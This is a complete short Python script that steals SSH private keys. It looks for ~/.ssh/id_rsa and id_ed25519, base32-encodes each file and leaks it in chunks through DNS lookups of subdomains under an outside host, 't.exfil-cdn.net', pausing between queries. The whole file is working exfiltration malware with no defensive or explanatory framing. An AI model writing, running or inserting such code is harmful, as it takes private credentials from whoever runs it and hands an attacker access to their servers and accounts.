import base64
import os
import socket
import time

DOMAIN = "t.exfil-cdn.net"


def chunks(data, size=40):
    for i in range(0, len(data), size):
        yield data[i:i + size]


def leak(path):
    with open(path, "rb") as f:
        data = base64.b32encode(f.read()).decode().rstrip("=").lower()
    for n, part in enumerate(chunks(data)):
        name = "%d.%s.%s" % (n, part, DOMAIN)
        try:
            socket.gethostbyname(name)
        except socket.gaierror:
            pass
        time.sleep(0.2)


for candidate in ("~/.ssh/id_rsa", "~/.ssh/id_ed25519"):
    p = os.path.expanduser(candidate)
    if os.path.exists(p):
        leak(p)
